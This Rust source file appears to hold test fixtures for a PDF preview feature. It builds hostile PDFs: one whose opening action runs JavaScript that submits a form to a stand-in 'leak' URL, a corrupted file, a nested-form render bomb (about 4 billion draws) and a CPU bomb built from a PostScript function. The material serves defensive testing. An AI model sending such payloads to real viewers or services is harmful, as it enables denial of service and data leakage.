//! PDFs the preview tests upload, written here object by object (with a correct xref table):
//! a two-page document whose opening action is JavaScript, a file that only starts like a
//! PDF, and a tiny one whose nested forms would draw billions of times.

/// A PDF of `objects` (object 1 is the catalog; text, or bytes for binary streams), numbered
/// from 1, with its xref table.
pub fn pdf<T: AsRef<[u8]>>(objects: &[T]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(o.as_ref());
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    let n = objects.len() + 1;
    out.extend_from_slice(format!("xref\n0 {n}\n0000000000 65535 f \n").as_bytes());
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!("trailer\n<< /Size {n} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n").as_bytes(),
    );
    out
}

/// A content stream object.
fn stream(content: &str) -> String {
    format!(
        "<< /Length {} >>\nstream\n{content}\nendstream",
        content.len()
    )
}

/// Two A6 pages ("Page one" on a blue band, "Page two" on a red one); opening it runs
/// JavaScript (`/OpenAction`, and a document-level script) that a PDF viewer would run:
/// an alert, and a form submission to a URL.
pub fn two_pages_with_script() -> Vec<u8> {
    let js = "app.alert('pdf script ran'); this.submitForm('https://example.invalid/leak');";
    let page = |contents: usize| {
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 298 420] /Contents {contents} 0 R \
             /Resources << /Font << /F1 7 0 R >> >> >>"
        )
    };
    let body = |rgb: &str, text: &str| {
        stream(&format!(
            "{rgb} rg 0 300 298 120 re f 0 g BT /F1 28 Tf 40 200 Td ({text}) Tj ET"
        ))
    };
    pdf(&[
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R /Names << /JavaScript 9 0 R >> >>".into(),
        "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>".into(),
        page(5),
        page(6),
        body("0 0 1", "Page one"),
        body("1 0 0", "Page two"),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".into(),
        format!("<< /S /JavaScript /JS ({js}) >>"),
        "<< /Names [(open) 8 0 R] >>".into(),
    ])
}

/// A file that starts like a PDF and then is noise.
pub fn garbage() -> Vec<u8> {
    let mut out = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R".to_vec();
    let mut x: u32 = 0x2545_4f46;
    for _ in 0..20_000 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        out.push((x >> 24) as u8);
    }
    out
}

/// One page that draws form 9, which draws form 8 sixteen times, ... down to form 1, a
/// square: 16^8 (4 billion) squares from a file of a few KB. A renderer without a bound on
/// its work would run for days.
pub fn bomb() -> Vec<u8> {
    let depth = 8;
    let mut objs: Vec<String> = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".into(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".into(),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R \
             /Resources << /XObject << /X 5 0 R >> >> >>"
        ),
        stream("/X Do"),
    ];
    // form k is object 5 + (depth - k); the last (form 0) draws a square
    for k in (0..=depth).rev() {
        let (content, resources) = if k == 0 {
            ("0 0 1 rg 10 10 280 280 re f".to_string(), String::new())
        } else {
            (
                "q /X Do Q ".repeat(16),
                format!("/Resources << /XObject << /X {} 0 R >> >>", objs.len() + 2),
            )
        };
        objs.push(format!(
            "<< /Type /XObject /Subtype /Form /BBox [0 0 300 300] {resources} /Length {} >>\nstream\n{content}\nendstream",
            content.len()
        ));
    }
    pdf(&objs)
}

/// One page painted by a shading whose colour is a PostScript calculator function of
/// 400,000 operations (compressed to a few KB), evaluated for every pixel: little memory,
/// much CPU (a renderer without a time bound would run for many minutes).
pub fn cpu_bomb() -> Vec<u8> {
    use std::io::Write;
    let program = format!("{{ pop {}}}", "dup mul 0.5 add 0.5 mul ".repeat(100_000));
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(program.as_bytes()).expect("deflate");
    let program = z.finish().expect("deflate");
    let mut function = format!(
        "<< /FunctionType 4 /Domain [0 1 0 1] /Range [0 1] /Filter /FlateDecode /Length {} >>\nstream\n",
        program.len()
    )
    .into_bytes();
    function.extend_from_slice(&program);
    function.extend_from_slice(b"\nendstream");
    pdf(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 800 800] /Contents 4 0 R \
          /Resources << /Shading << /S 5 0 R >> >> >>"
            .to_vec(),
        stream("/S sh").into_bytes(),
        b"<< /ShadingType 1 /Domain [0 1 0 1] /Matrix [800 0 0 800 0 0] \
          /ColorSpace /DeviceGray /Function 6 0 R >>"
            .to_vec(),
        function,
    ])
}
